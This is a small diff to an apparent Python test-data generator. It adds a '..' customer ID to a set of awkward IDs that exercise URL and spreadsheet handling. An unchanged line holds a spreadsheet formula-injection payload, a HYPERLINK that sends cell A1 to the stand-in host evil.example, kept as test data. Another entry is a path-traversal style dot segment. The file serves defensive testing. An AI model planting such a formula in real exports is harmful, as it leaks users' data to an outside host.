@@ -31,8 +31,9 @@ if TYPE_CHECKING:
 CUSTOMERS = 1500
 SEED = 20251231
 AS_OF = dt.date(2025, 12, 31)
-# ids the contract allows that a URL or a spreadsheet treats specially: a slash, 300 characters, a leading "-"
-AWKWARD_IDS = {"C0000002": "ACME/42", "C0000003": "ACME-" + "7" * 295, "C0000004": "-42"}
+# ids the contract allows that a URL or a spreadsheet treats specially: a slash, 300 characters, a leading "-",
+# a dot segment (HTTP clients remove it from a path, RFC 3986 5.2.4, unless it is sent as %2E%2E)
+AWKWARD_IDS = {"C0000002": "ACME/42", "C0000003": "ACME-" + "7" * 295, "C0000004": "-42", "C0000007": ".."}
 FORMULA_SEGMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a spreadsheet formula in a text cell
 FORMULA_CUSTOMERS = ("C0000005", "C0000006")
 
